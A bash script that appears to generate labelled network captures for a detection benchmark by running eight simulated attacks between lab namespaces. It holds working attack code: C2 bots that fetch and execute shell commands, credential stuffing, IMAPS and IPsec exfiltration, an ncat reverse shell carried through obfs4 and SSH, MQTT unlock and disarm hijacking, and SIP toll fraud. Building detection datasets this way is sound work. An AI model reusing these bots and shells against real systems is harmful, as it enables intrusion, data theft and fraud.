#!/usr/bin/env bash
# A FIFTEENTH fresh attack set ("f15-*"): attacks that BLEND IN — common ports (tcp/443, tcp/993, a LAN broker's
# tcp/1883, udp/5060 and RTP), low rates, few bytes, contacts spread over many internet addresses — and families no
# earlier set used (toll fraud, an IKEv2 tunnel, a C2 reached through an open proxy, an obfs4 bridge).
# Made with real tools between network namespaces (no helper program: every far end is a packaged server or tool).
#   f15-flux-https-c2        an Emotet/QakBot-style C2 with a hardcoded list of 20 relays: each check-in (an HTTPS
#                            POST, curl) goes to the NEXT relay of the list, one short connection per address
#   f15-cred-stuff-spread    low-and-slow credential stuffing: 18 JSON logins over HTTPS spread over 6 internet
#                            services (nginx), one attempt every 7-13 s, a fresh connection each
#   f15-imaps-drafts-exfil   a mailbox dead drop over IMAPS (tcp/993, dovecot; curl): the bot reads its task from the
#                            Drafts folder and APPENDs its loot there as mails with attachments, a login per step
#   f15-obfs4-revshell-443   an obfs4 bridge (obfs4proxy as a pluggable transport, both ends) on tcp/443 carrying an
#                            SSH session whose remote forward gives the operator a shell on the device's loopback
#   f15-mqtt-lan-hijack      the LAN's unauthenticated MQTT broker (mosquitto) abused: subscribe to '#' to harvest
#                            the home's topics, then publish unlock / disarm commands and a retained fake entity
#   f15-sip-toll-fraud       toll fraud: 3 calls (baresip) to premium / international numbers through an internet SIP
#                            trunk (udp/5060, G.711 RTP both ways), ~40 s each
#   f15-proxy-connect-c2     a C2 polled through an open HTTP proxy on the internet (squid, tcp/8080): CONNECT to the
#                            C2's 443, TLS inside; the C2 itself never appears on the device's link
#   f15-ipsec-ikev2-exfil    a road-warrior IKEv2 tunnel (strongSwan's charon, PSK, a virtual IP from the gateway's
#                            pool) to an internet gateway: IKE_SA_INIT on udp/500, then IKE and ESP-in-UDP on udp/4500
#                            (charon's userland kernel-libipsec: this machine's kernel has no ESP), carrying 3 uploads
#                            to a host behind the gateway, DPD every 15 s
# The lab is fresh-lab.sh's (device 10.66.0.10, victim 10.66.0.20, dummies .31-.34, a routed "internet" 10.128.0.0/9
# behind the victim), namespaces f15-*, veths f15p-*. Internet hosts are /32 addresses on the victim's lo
# (10.128.105.x, the relay list and the stuffing targets; the SIP trunk's on a veth of its own in the victim, and
# 172.31.250.1 the host behind the IPsec gateway); every other 10.128/9 address is on no host. Each id's
# servers are started before its capture and stopped after. Every tool runs under `timeout`, every loop is bounded;
# namespaces are removed on exit. The device is always the lab's attacker namespace (role attacker).
#
# Tools (Debian): nginx curl dovecot-imapd obfs4proxy openssh-server openssh-client ncat mosquitto mosquitto-clients
#   baresip squid strongswan-charon strongswan-swanctl libcharon-extra-plugins iproute2 tcpdump wireshark-common bc openssl
#
# Usage: bash bench/behavior/fresh15/gen-fresh15.sh [--out DIR (default /work/behavior-bench-fresh15)] [--ids id1,id2]
set -euo pipefail

OUT=/work/behavior-bench-fresh15
HERE="$(cd "$(dirname "$0")" && pwd)"
LAB=f15 GEN=gen-fresh15
# shellcheck source=../fresh-lab.sh
. "$HERE/../fresh-lab.sh" "$@"

lab_network
sleep 1

# ---------- "internet" hosts ----------
# .105.3 the IMAPS drop, .105.4 the obfs4 bridge, .105.5 the open proxy, .105.6 the C2 behind it, .105.7 the SIP
# trunk (added with its id), .105.8 the IPsec gateway (172.31.250.1 the host behind it); the 20 relays and 6
# stuffing targets below (added with their ids).
internet_hosts 10.128.105.3 10.128.105.4 10.128.105.5 10.128.105.6 10.128.105.8
RELAYS="10.131.17.45 10.139.88.201 10.142.5.19 10.150.203.66 10.157.41.130 10.163.99.7 10.170.12.240 10.176.150.33
10.181.77.91 10.188.230.14 10.192.64.178 10.199.3.57 10.205.118.222 10.211.45.9 10.217.190.101 10.224.31.250
10.230.86.43 10.237.140.17 10.243.9.199 10.250.172.68"
STUFF="10.134.22.61 10.146.201.9 10.161.73.140 10.184.5.222 10.201.130.47 10.229.66.18"
lab_tls_cert "api.example"
export NET VIC_IP ATT_IP W PY HERE LAB RELAYS STUFF

mkdir -p "$W/loot"
head -c 90000 /dev/urandom > "$W/loot/wifi.tar.gz"
head -c 140000 /dev/urandom > "$W/loot/snap.jpg"
head -c 40000 /dev/urandom > "$W/loot/config.bin"
head -c 200000 /dev/urandom > "$W/loot/fw-dump.bin"
head -c 300000 /dev/urandom > "$W/loot/rec.bin"

NGINX_SERVER_NAME=api.example  # nginx_conf (fresh-lab.sh)
# An sshd on the victim's loopback for one id: DIR (keys, config), PORT; started with srv.
sshd_conf() { # DIR PORT
  rm -rf "$1"; mkdir -p "$1" /run/sshd
  ssh-keygen -q -t ed25519 -N '' -f "$1/host"
  ssh-keygen -q -t ed25519 -N '' -f "$1/bot"
  cp "$1/bot.pub" "$1/authorized_keys"; chmod 600 "$1/authorized_keys"
  cat > "$1/sshd_config" <<EOF
ListenAddress 127.0.0.1:$2
HostKey $1/host
AuthorizedKeysFile $1/authorized_keys
PasswordAuthentication no
KbdInteractiveAuthentication no
UsePAM no
PermitRootLogin prohibit-password
StrictModes no
AllowTcpForwarding yes
ClientAliveInterval 20
PidFile $1/sshd.pid
EOF
}

# ---------- 1. a C2 with a hardcoded list of 20 relays: each check-in to the next relay, one connection each ----------
if want f15-flux-https-c2; then
  internet_hosts $RELAYS
  L=""; for a in $RELAYS; do L="$L    listen $a:443 ssl;
"; done
  # three relays hand out a task; the others "no task" (each relay forwards to the same backend in reality)
  nginx_conf flux "$L" <<EOF
    location /wp-content/ {
      if (\$server_addr = 10.142.5.19) { return 200 '{"t":1,"c":"id; uname -a; cat /proc/cpuinfo | head -5"}'; }
      if (\$server_addr = 10.181.77.91) { return 200 '{"t":2,"c":"ip -4 addr; cat /proc/net/arp; ip route"}'; }
      if (\$server_addr = 10.217.190.101) { return 200 '{"t":3,"c":"ls -la /etc; cat /etc/passwd"}'; }
      return 200 '{"t":0}';
    }
EOF
  srv vic 240 nginx -e "$W/nginx-flux/error.log" -c "$W/nginx-flux/nginx.conf" -g 'daemon off;'
  FX_PID=$BG
  wait_tcp vic 10.250.172.68 443
  cat > "$W/flux.sh" <<'EOS'
# the bot: the relays in its list's order; a check-in = one HTTPS POST of an encrypted-looking blob (the host's
# state, and the output of the last task if any), 4-9 s apart; a task is run and its output sent with the NEXT
# check-in, to the next relay
out="$W/flux-out"; : > "$out"
n=0
for r in $RELAYS; do
  n=$((n + 1))
  { head -c $((120 + RANDOM % 200)) /dev/urandom; cat "$out"; } | base64 -w0 > "$W/flux-body"
  : > "$out"
  t=$(timeout 12 curl -sk -m 10 -A 'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)' \
    -H 'Content-Type: application/x-www-form-urlencoded' --data-binary "@$W/flux-body" \
    "https://$r/wp-content/plugins/$(printf '%x' $((RANDOM * 7 + n)))/" || true)
  c=$(printf '%s' "$t" | sed -n 's/.*"c":"\([^"]*\)".*/\1/p')
  [ -z "$c" ] || timeout 5 sh -c "$c" 2>&1 | head -c 4000 | gzip > "$out"
  sleep $((4 + RANDOM % 6))
done
EOS
  CAP_WAN=$WAN CAP_VIC_IP=10.131.17.45 cap f15-flux-https-c2 c2 curl-https-post-relay-list-rotation+nginx attacker \
    wan false 200 bash "$W/flux.sh"
  stopbg "$FX_PID"
  echo "flux: $(wc -l < "$W/nginx-flux/access.log") check-ins at the relays" >&2
fi

# ---------- 2. low-and-slow credential stuffing spread over 6 internet services ----------
if want f15-cred-stuff-spread; then
  internet_hosts $STUFF
  L=""; for a in $STUFF; do L="$L    listen $a:443 ssl;
"; done
  nginx_conf stuff "$L" <<EOF
    location = /api/v1/auth/login { default_type application/json; return 401 '{"error":"invalid_credentials"}'; }
EOF
  srv vic 240 nginx -e "$W/nginx-stuff/error.log" -c "$W/nginx-stuff/nginx.conf" -g 'daemon off;'
  ST_PID=$BG
  wait_tcp vic 10.229.66.18 443
  # a leaked combo list: 18 e-mail / password pairs
  $PY - "$W/combos" <<'PYEOF'
import random, sys
r = random.Random(15)
users = ["anna.k", "mike77", "j.smith", "lena_b", "tom.h", "sara.m", "ivan.p", "kate.w", "paul99", "nina.r"]
doms = ["gmail.com", "yahoo.com", "outlook.com", "gmx.de", "mail.ru"]
pws = ["Summer2023!", "qwerty123", "iloveyou1", "P@ssw0rd", "dragon88", "Monkey!23", "letmein22", "Sunshine7"]
with open(sys.argv[1], "w") as f:
    for i in range(18):
        f.write(f"{r.choice(users)}{r.randint(1, 99)}@{r.choice(doms)}:{r.choice(pws)}\n")
PYEOF
  cat > "$W/stuff.sh" <<'EOS'
# one login attempt every 7-13 s, each to the next of 6 services (a fresh connection each: a proxying stuffing tool
# opens one per attempt), a mobile app's user agent
read -r -a S <<< "$(echo $STUFF)"
i=0
while IFS=: read -r u p && [ $i -lt 18 ]; do
  s=${S[$((i % 6))]}
  i=$((i + 1))
  timeout 12 curl -sk -m 10 -o /dev/null -A 'okhttp/4.10.0' -H 'Content-Type: application/json' \
    -d "{\"email\":\"$u\",\"password\":\"$p\",\"remember\":true}" "https://$s/api/v1/auth/login" || true
  sleep $((7 + RANDOM % 7))
done < "$W/combos"
EOS
  CAP_WAN=$WAN CAP_VIC_IP=10.134.22.61 cap f15-cred-stuff-spread credential curl-https-json-login-6-services+nginx \
    attacker wan false 230 bash "$W/stuff.sh"
  stopbg "$ST_PID"
  echo "stuffing: $(grep -c ' 401 ' "$W/nginx-stuff/access.log") refused logins" >&2
fi

# ---------- 3. a mailbox dead drop over IMAPS: the task in Drafts, the loot APPENDed there ----------
if want f15-imaps-drafts-exfil; then
  D="$W/dovecot"; rm -rf "$D"; mkdir -p "$D/run" "$D/state" "$D/home"
  chown -R 65534:65534 "$D/home"
  echo 'drafts7f3a@mail.example:{PLAIN}Dr4fts-7f3a!' > "$D/users"
  cat > "$D/dovecot.conf" <<EOF
base_dir = $D/run
state_dir = $D/state
log_path = $D/dovecot.log
protocols = imap
listen = 10.128.105.3
ssl = required
ssl_cert = <$W/tls.crt
ssl_key = <$W/tls.key
auth_mechanisms = plain login
passdb {
  driver = passwd-file
  args = scheme=PLAIN $D/users
}
userdb {
  driver = static
  args = uid=65534 gid=65534 home=$D/home/%u
}
first_valid_uid = 1
mail_location = maildir:~/Maildir
namespace inbox {
  inbox = yes
  mailbox Drafts {
    auto = create
    special_use = \Drafts
  }
}
service imap-login {
  inet_listener imap {
    port = 0
  }
  inet_listener imaps {
    port = 993
    ssl = yes
  }
}
EOF
  srv vic 230 dovecot -F -c "$D/dovecot.conf"
  DV_PID=$BG
  wait_tcp vic 10.128.105.3 993
  # the operator leaves the task as a draft (before the capture, from the drop's own host)
  printf 'From: a@mail.example\r\nSubject: notes\r\nDate: Mon, 7 Dec 2026 10:00:00 +0000\r\n\r\n%s\r\n' \
    'upload: wifi.tar.gz snap.jpg config.bin fw-dump.bin; interval 20' > "$W/task.eml"
  ns vic timeout 10 curl -sk -u 'drafts7f3a@mail.example:Dr4fts-7f3a!' -T "$W/task.eml" \
    'imaps://10.128.105.3/Drafts' >&2 || echo "$GEN: task draft not stored" >&2
  cat > "$W/imaps.sh" <<'EOS'
# the bot: a login per step (curl opens one connection per call): read the task draft, then every 15-25 s APPEND a
# "draft" with one file of the loot as a base64 attachment, and a last check of the folder
U=(-u 'drafts7f3a@mail.example:Dr4fts-7f3a!')
B=imaps://10.128.105.3
timeout 15 curl -sk -m 12 "${U[@]}" "$B/Drafts" -X 'UID SEARCH SUBJECT notes' -o /dev/null || true
sleep 2
timeout 15 curl -sk -m 12 "${U[@]}" "$B/Drafts;UID=1" -o "$W/imaps-task" || true
for f in wifi.tar.gz snap.jpg config.bin fw-dump.bin; do
  sleep $((15 + RANDOM % 11))
  {
    printf 'From: a@mail.example\r\nSubject: re: notes %s\r\nDate: %s\r\nMIME-Version: 1.0\r\n' "$f" "$(date -R)"
    printf 'Content-Type: multipart/mixed; boundary="b7f3a"\r\n\r\n--b7f3a\r\nContent-Type: text/plain\r\n\r\nok\r\n'
    printf -- '--b7f3a\r\nContent-Type: application/octet-stream; name="%s"\r\nContent-Transfer-Encoding: base64\r\n\r\n' "$f"
    base64 -w 76 "$W/loot/$f" | sed 's/$/\r/'
    printf -- '--b7f3a--\r\n'
  } > "$W/imaps-msg.eml"
  timeout 30 curl -sk -m 25 "${U[@]}" -T "$W/imaps-msg.eml" "$B/Drafts" -o /dev/null || true
done
sleep 10
timeout 15 curl -sk -m 12 "${U[@]}" "$B/Drafts" -X 'STATUS Drafts (MESSAGES)' -o /dev/null || true
EOS
  CAP_VIC_IP=10.128.105.3 cap f15-imaps-drafts-exfil exfil curl-imaps-append-drafts+dovecot attacker public false 160 \
    bash "$W/imaps.sh"
  stopbg "$DV_PID"
  echo "imaps drafts: $(ls "$D"/home/*/Maildir/.Drafts/cur "$D"/home/*/Maildir/.Drafts/new 2>/dev/null | grep -c .) files" >&2
fi

# ---------- 4. an obfs4 bridge on tcp/443 carrying SSH: the operator's shell through a remote forward ----------
if want f15-obfs4-revshell-443; then
  O="$W/obfs4"; rm -rf "$O"; mkdir -p "$O/srv" "$O/cli"
  sshd_conf "$O/ssh" 2222
  srv vic 220 /usr/sbin/sshd -D -e -f "$O/ssh/sshd_config"
  SSHD_PID=$BG
  # the bridge: obfs4proxy as tor's managed server transport, its "ORPort" the sshd
  (sleep 230 | ip netns exec "$LAB-vic" env TOR_PT_MANAGED_TRANSPORT_VER=1 TOR_PT_STATE_LOCATION="$O/srv" \
    TOR_PT_SERVER_TRANSPORTS=obfs4 TOR_PT_SERVER_BINDADDR=obfs4-10.128.105.4:443 TOR_PT_ORPORT=127.0.0.1:2222 \
    timeout -s KILL 225 obfs4proxy -enableLogging > "$O/srv.out" 2>&1) &
  PIDS+=($!); BR_PID=$!
  wait_tcp vic 127.0.0.1 2222
  wait_tcp vic 10.128.105.4 443
  sed -n 's/.*cert=\([^ ]*\) .*/\1/p' "$O/srv/obfs4_bridgeline.txt" > "$O/cert"
  # the operator, on the bridge's host: 7 commands 6-14 s apart into the device's shell, then a file read out
  cat > "$W/obfs4-op.sh" <<'EOS'
sleep 15
{
  for c in "id" "uname -a" "cat /proc/net/arp" "ip -4 route" "ls -la /etc" "cat /etc/passwd" "ps | head -20"; do
    sleep $((6 + RANDOM % 9)); echo "$c"
  done
  sleep 5; echo "base64 -w0 $W/loot/wifi.tar.gz"; sleep 8; echo exit
} | timeout 130 ncat 127.0.0.1 4444 > "$W/obfs4-op.out" 2>&1 || true
EOS
  ip netns exec "$LAB-vic" timeout 170 bash "$W/obfs4-op.sh" >>"$W/bg-obfs4-op.log" 2>&1 &
  OP_PID=$!; PIDS+=("$OP_PID")
  cat > "$W/obfs4.sh" <<'EOS'
# the device: a shell on its loopback, obfs4proxy's client transport (SOCKS5 on its loopback; the bridge's cert
# passed as the SOCKS username / password, as tor does), and ssh through it with a remote forward to the shell
O="$W/obfs4"
timeout 150 ncat -l 127.0.0.1 4444 -e /bin/sh &
S=$!
(sleep 160 | env TOR_PT_MANAGED_TRANSPORT_VER=1 TOR_PT_STATE_LOCATION="$O/cli" TOR_PT_CLIENT_TRANSPORTS=obfs4 \
  timeout -s KILL 160 obfs4proxy > "$O/cli.out" 2>&1) &
C=$!
for i in $(seq 1 20); do grep -q 'CMETHOD obfs4' "$O/cli.out" 2>/dev/null && break; sleep 0.3; done
P=$(awk '/CMETHOD obfs4/{split($4,a,":");print a[2]}' "$O/cli.out")
timeout 150 ssh -N -i "$O/ssh/bot" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes \
  -o ServerAliveInterval=30 -o ExitOnForwardFailure=yes -R 127.0.0.1:4444:127.0.0.1:4444 \
  -o "ProxyCommand=ncat --proxy 127.0.0.1:$P --proxy-type socks5 --proxy-auth 'cert=$(cat "$O/cert");:iat-mode=0' 10.128.105.4 443" \
  -p 2222 root@127.0.0.1 &
H=$!
wait $S 2>/dev/null || true
sleep 5
kill $H 2>/dev/null; wait $H 2>/dev/null || true
kill $C 2>/dev/null || true
EOS
  CAP_VIC_IP=10.128.105.4 cap f15-obfs4-revshell-443 c2 obfs4proxy-pt-443+openssh-remote-forward+ncat-shell attacker \
    public false 175 bash "$W/obfs4.sh"
  stopbg "$OP_PID"; stopbg "$SSHD_PID"; kill "$BR_PID" 2>/dev/null || true
  echo "obfs4 operator got $(wc -c < "$W/obfs4-op.out") bytes" >&2
fi

# ---------- 5. the LAN's MQTT broker abused: harvest every topic, then unlock / disarm commands ----------
if want f15-mqtt-lan-hijack; then
  M="$W/mqtt"; rm -rf "$M"; mkdir -p "$M"
  cat > "$M/mosquitto.conf" <<EOF
user root
persistence false
listener 1883 $NET.31
allow_anonymous true
log_dest stderr
EOF
  srv d31 220 mosquitto -c "$M/mosquitto.conf"
  BRK_PID=$BG
  wait_tcp d31 "$NET.31" 1883
  # the home's devices: a zigbee2mqtt bridge on .32 and a thermostat / alarm panel on .33 publish their states
  cat > "$M/home.sh" <<'EOS'
# PUBLISHER HOST: bounded state publications, 2-5 s apart
end=$((SECONDS + 200))
while [ $SECONDS -lt $end ]; do
  case "$1" in
    z2m)
      mosquitto_pub -h "$NET.31" -i z2m-bridge -r -t zigbee2mqtt/front_door_lock -m "{\"state\":\"LOCK\",\"battery\":$((80 + RANDOM % 5)),\"linkquality\":$((90 + RANDOM % 40))}"
      mosquitto_pub -h "$NET.31" -i z2m-bridge -r -t zigbee2mqtt/hall_motion -m "{\"occupancy\":$([ $((RANDOM % 4)) = 0 ] && echo true || echo false),\"illuminance\":$((RANDOM % 300))}"
      mosquitto_pub -h "$NET.31" -i z2m-bridge -t zigbee2mqtt/bridge/state -m '{"state":"online"}' ;;
    panel)
      mosquitto_pub -h "$NET.31" -i alarm-panel -r -t home/alarm/state -m armed_away
      mosquitto_pub -h "$NET.31" -i thermostat -r -t home/livingroom/temperature -m "21.$((RANDOM % 10))" ;;
  esac
  sleep $((2 + RANDOM % 4))
done
EOS
  srv d32 210 bash "$M/home.sh" z2m
  Z_PID=$BG
  srv d33 210 bash "$M/home.sh" panel
  P_PID=$BG
  sleep 5
  cat > "$W/mqtt-hijack.sh" <<'EOS'
# the device: the broker's $SYS tree, then every topic for 60 s, then commands to the lock and the alarm (while
# still listening), and a retained Home Assistant discovery entry for a fake switch that runs its payload
B=(-h "$NET.31")
timeout 15 mosquitto_sub "${B[@]}" -i esp-7f3a-probe -v -t '$SYS/#' -C 25 -W 12 > "$W/mqtt-sys" 2>&1 || true
sleep 4
timeout 130 mosquitto_sub "${B[@]}" -i esp-7f3a -v -t '#' -W 125 > "$W/mqtt-all" 2>&1 &
L=$!
sleep 60
mosquitto_pub "${B[@]}" -i esp-7f3a-c -t zigbee2mqtt/front_door_lock/set -m '{"state":"UNLOCK"}' || true
sleep $((8 + RANDOM % 6))
mosquitto_pub "${B[@]}" -i esp-7f3a-c -t home/alarm/set -m disarm || true
sleep $((8 + RANDOM % 6))
mosquitto_pub "${B[@]}" -i esp-7f3a-c -r -t homeassistant/switch/garage_door/config \
  -m '{"name":"Garage door","command_topic":"home/garage/set","state_topic":"home/garage/state","unique_id":"gd7f3a"}' || true
sleep $((8 + RANDOM % 6))
mosquitto_pub "${B[@]}" -i esp-7f3a-c -t zigbee2mqtt/front_door_lock/set -m '{"state":"UNLOCK"}' || true
sleep 20
kill $L 2>/dev/null; wait $L 2>/dev/null || true
EOS
  CAP_VIC_IP=$NET.31 CAP_VIC_MAC=02:66:00:00:00:31 cap f15-mqtt-lan-hijack lateral mosquitto-sub-all+pub-commands \
    attacker lan false 170 bash "$W/mqtt-hijack.sh"
  stopbg "$Z_PID"; stopbg "$P_PID"; stopbg "$BRK_PID"
  echo "mqtt: harvested $(wc -l < "$W/mqtt-all") messages, \$SYS $(wc -l < "$W/mqtt-sys")" >&2
fi

# ---------- 6. toll fraud: 3 calls to premium / international numbers through an internet SIP trunk ----------
if want f15-sip-toll-fraud; then
  S="$W/sip"; rm -rf "$S"; mkdir -p "$S/trunk" "$S/dev"
  # the trunk's address on an interface of its own (one end of a veth pair inside the victim; this kernel has no
  # dummy links): baresip puts its interface's address in the SDP and sends its RTP from it (on the victim's lo it
  # would take the first of the lab's internet addresses)
  ns vic ip link add f15sip0 type veth peer name f15sip1
  ns vic ip addr add 10.128.105.7/32 dev f15sip0
  ns vic ip link set f15sip0 up
  ns vic ip link set f15sip1 up
  # its RTP socket is unbound: its datagrams to the device take the route's source address, the trunk's for this id
  ns vic ip route add "$ATT_IP/32" dev eth0 src 10.128.105.7
  # 90 s of 8 kHz audio (a recorded IVR / the line's noise), the media both ends send
  $PY - "$S/ivr.wav" <<'PYEOF'
import math, random, sys, wave
w = wave.open(sys.argv[1], "wb"); w.setnchannels(1); w.setsampwidth(2); w.setframerate(8000)
r = random.Random(15); fr = bytearray()
for i in range(8000 * 90):
    v = int(5000 * math.sin(i * 2 * math.pi * (300 + 180 * ((i // 4000) % 4)) / 8000) + r.randint(-900, 900))
    fr += v.to_bytes(2, "little", signed=True)
w.writeframes(bytes(fr)); w.close()
PYEOF
  for r in trunk dev; do
    if [ $r = trunk ]; then L=10.128.105.7:5060 IF=f15sip0; else L=$ATT_IP:5060 IF=eth0; fi
    cat > "$S/$r/config" <<EOF
poll_method epoll
net_interface $IF
sip_listen $L
call_max_calls 4
audio_player aufile,$S/$r/heard.wav
audio_source aufile,$S/ivr.wav
audio_alert aufile,$S/$r/alert.wav
rtp_ports 16384-32766
module_path /usr/lib/baresip/modules
module g711.so
module aufile.so
module_tmp account.so
module_app menu.so
EOF
  done
  # the trunk answers the numbers it terminates (an account per number), the device's account is its own line
  printf '<sip:%s@10.128.105.7>;regint=0;answermode=auto;audio_codecs=PCMU,PCMA\n' 00882167001234 002399801555 \
    0090066123456 > "$S/trunk/accounts"
  printf '<sip:7f3a@%s>;regint=0;audio_codecs=PCMU,PCMA\n' "$ATT_IP" > "$S/dev/accounts"
  srv vic 200 baresip -f "$S/trunk"
  TR_PID=$BG
  sleep 3
  cat > "$W/sip.sh" <<'EOS'
# the device's SIP stack dials 3 numbers in turn, each call held 36-48 s, 6-10 s between calls
S="$W/sip"
for n in 00882167001234 002399801555 0090066123456; do
  timeout 60 baresip -f "$S/dev" -e "/dial sip:$n@10.128.105.7" -t $((36 + RANDOM % 13)) >> "$S/dev.log" 2>&1 || true
  sleep $((6 + RANDOM % 5))
done
EOS
  CAP_VIC_IP=10.128.105.7 cap f15-sip-toll-fraud fraud baresip-sip-invite-g711-rtp attacker public false 185 \
    bash "$W/sip.sh"
  stopbg "$TR_PID"
  ns vic ip route del "$ATT_IP/32" dev eth0 src 10.128.105.7
  echo "sip: $(grep -c 'Call established' "$S/dev.log") calls established, $(grep -c 'terminated' "$S/dev.log") ended" >&2
fi

# ---------- 7. a C2 polled through an open HTTP proxy on the internet (squid, CONNECT) ----------
if want f15-proxy-connect-c2; then
  Q="$W/squid"; rm -rf "$Q"; mkdir -p "$Q"
  chown proxy:proxy "$Q"
  cat > "$Q/squid.conf" <<EOF
http_port 10.128.105.5:8080
acl SSL_ports port 443
acl CONNECT method CONNECT
http_access deny CONNECT !SSL_ports
http_access allow all
cache deny all
cache_mem 8 MB
cache_effective_user proxy
pid_filename $Q/squid.pid
access_log stdio:$Q/access.log
cache_log $Q/cache.log
cache_store_log none
coredump_dir $Q
dns_nameservers 127.0.0.1
shutdown_lifetime 1 seconds
workers 1
EOF
  srv vic 240 squid -N -f "$Q/squid.conf"
  SQ_PID=$BG
  nginx_conf pc2 "    listen 10.128.105.6:443 ssl;" <<EOF
    location /v1/ { default_type application/json; try_files \$uri /v1/idle.json; }
    location /r/ { default_type application/json; return 200 '{"ok":1}'; }
EOF
  mkdir -p "$W/nginx-pc2/www/v1"
  echo '{"sleep":15}' > "$W/nginx-pc2/www/v1/idle.json"
  echo '{"cmd":"id; uname -a"}' > "$W/nginx-pc2/www/v1/3.json"
  echo '{"cmd":"cat /proc/net/arp; ip -4 addr"}' > "$W/nginx-pc2/www/v1/6.json"
  echo '{"cmd":"ls -la /etc; cat /etc/passwd"}' > "$W/nginx-pc2/www/v1/9.json"
  srv vic 240 nginx -e "$W/nginx-pc2/error.log" -c "$W/nginx-pc2/nginx.conf" -g 'daemon off;'
  PC_PID=$BG
  wait_tcp vic 10.128.105.6 443
  wait_tcp vic 10.128.105.5 8080
  cat > "$W/pc2.sh" <<'EOS'
# the bot: a poll every 8-20 s through the proxy (CONNECT, then TLS to the C2), a fresh proxy connection each; a
# task's output POSTed back 2-4 s later through the proxy as well; at most 12 polls and 170 s
X=(curl -sk -m 12 -x http://10.128.105.5:8080 -A 'Mozilla/5.0 (Linux; Android 10) AppleWebKit/537.36')
t0=$SECONDS
for n in $(seq 1 12); do
  t=$(timeout 15 "${X[@]}" "https://10.128.105.6/v1/$n.json" || true)
  c=$(printf '%s' "$t" | sed -n 's/.*"cmd":"\([^"]*\)".*/\1/p')
  if [ -n "$c" ]; then
    sleep $((2 + RANDOM % 3))
    timeout 5 sh -c "$c" 2>&1 | head -c 5000 | base64 -w0 > "$W/pc2-out"
    timeout 15 "${X[@]}" -o /dev/null --data-binary "@$W/pc2-out" "https://10.128.105.6/r/$n" || true
  fi
  s=$((8 + RANDOM % 13))
  [ $((SECONDS - t0 + s)) -lt 170 ] || break
  sleep "$s"
done
EOS
  CAP_VIC_IP=10.128.105.5 cap f15-proxy-connect-c2 c2 curl-https-via-squid-connect-8080+nginx attacker public false 185 \
    bash "$W/pc2.sh"
  stopbg "$PC_PID"; stopbg "$SQ_PID"
  echo "proxy C2: $(grep -c CONNECT "$Q/access.log" 2>/dev/null) CONNECTs at the proxy" >&2
fi

# ---------- 8. an IKEv2 tunnel (strongSwan) to an internet gateway: ESP-in-UDP carrying 3 uploads ----------
if want f15-ipsec-ikev2-exfil; then
  I="$W/ipsec"; rm -rf "$I"; mkdir -p "$I/dev" "$I/gw"
  ns vic ip addr add 172.31.250.1/32 dev lo
  for r in dev gw; do
    cat > "$I/$r/strongswan.conf" <<EOF
charon {
  load_modular = yes
  plugins {
    include /etc/strongswan.d/charon/*.conf
    vici {
      socket = unix://$I/$r/charon.vici
    }
    kernel-libipsec {
      load = yes
    }
  }
  filelog {
    log {
      path = $I/$r/charon.log
      default = 1
    }
  }
}
EOF
  done
  cat > "$I/dev/swanctl.conf" <<EOF
connections {
  gw {
    version = 2
    local_addrs = $ATT_IP
    remote_addrs = 10.128.105.8
    vips = 0.0.0.0
    proposals = aes256-sha256-modp2048
    dpd_delay = 15s
    local { auth = psk
      id = cam-7f3a.dyn.example }
    remote { auth = psk
      id = vpn.example }
    children {
      net {
        local_ts = dynamic
        remote_ts = 172.31.250.0/24
        esp_proposals = aes256-sha256
        mode = tunnel
      }
    }
  }
}
secrets {
  ike-1 { id-1 = cam-7f3a.dyn.example
    id-2 = vpn.example
    secret = "Ik3-7f3a-psk-0x19" }
}
EOF
  cat > "$I/gw/swanctl.conf" <<EOF
connections {
  dev {
    version = 2
    local_addrs = 10.128.105.8
    pools = rw
    proposals = aes256-sha256-modp2048
    dpd_delay = 15s
    local { auth = psk
      id = vpn.example }
    remote { auth = psk
      id = cam-7f3a.dyn.example }
    children {
      net {
        local_ts = 172.31.250.0/24
        remote_ts = dynamic
        esp_proposals = aes256-sha256
        mode = tunnel
      }
    }
  }
}
pools {
  rw { addrs = 172.31.251.16/28 }
}
secrets {
  ike-1 { id-1 = cam-7f3a.dyn.example
    id-2 = vpn.example
    secret = "Ik3-7f3a-psk-0x19" }
}
EOF
  # each charon in a private mount namespace (its pid file is /run/charon.pid), its config and vici socket in $I
  for r in dev gw; do
    n=att; [ $r = gw ] && n=vic
    ip netns exec "$LAB-$n" timeout 200 unshare -m sh -c "mount -t tmpfs f15run /run &&
      exec env STRONGSWAN_CONF='$I/$r/strongswan.conf' /usr/lib/ipsec/charon" >>"$W/bg-charon-$r.log" 2>&1 &
    PIDS+=($!)
    eval "CH_$r=\$!"
  done
  for i in $(seq 1 30); do [ -S "$I/dev/charon.vici" ] && [ -S "$I/gw/charon.vici" ] && break; sleep 0.5; done
  ns vic swanctl --load-all --uri "unix://$I/gw/charon.vici" --file "$I/gw/swanctl.conf" >&2
  ns att swanctl --load-all --uri "unix://$I/dev/charon.vici" --file "$I/dev/swanctl.conf" >&2
  # the drop behind the gateway: an nginx DAV on 172.31.250.1:8080
  nginx_conf esp "    listen 172.31.250.1:8080;" <<EOF
    location /u/ { root $W/nginx-esp/dav; dav_methods PUT; create_full_put_path on; }
EOF
  mkdir -p "$W/nginx-esp/dav"
  srv vic 200 nginx -e "$W/nginx-esp/error.log" -c "$W/nginx-esp/nginx.conf" -g 'daemon off;'
  ESP_PID=$BG
  wait_tcp vic 172.31.250.1 8080
  cat > "$W/ipsec.sh" <<'EOS'
# the device: bring the tunnel up (IKE_SA_INIT, IKE_AUTH), then 3 uploads to the drop behind the gateway 15-25 s
# apart, a last idle stretch (DPD every 15 s), and the tunnel taken down
I="$W/ipsec"
timeout 20 swanctl --initiate --child net --uri "unix://$I/dev/charon.vici" >> "$I/dev-initiate.log" 2>&1 || true
for f in config.bin rec.bin fw-dump.bin; do
  sleep $((15 + RANDOM % 11))
  timeout 30 curl -s -m 25 -o /dev/null -T "$W/loot/$f" "http://172.31.250.1:8080/u/7f3a/$f" || true
done
sleep 20
timeout 10 swanctl --terminate --ike gw --uri "unix://$I/dev/charon.vici" >> "$I/dev-initiate.log" 2>&1 || true
EOS
  CAP_VIC_IP=10.128.105.8 cap f15-ipsec-ikev2-exfil exfil strongswan-ikev2-psk-libipsec-esp-in-udp+curl-put attacker public false \
    150 bash "$W/ipsec.sh"
  stopbg "$ESP_PID"; kill "$CH_dev" "$CH_gw" 2>/dev/null || true
  ls -la "$W/nginx-esp/dav/u/7f3a" >&2 || true
fi

lab_index
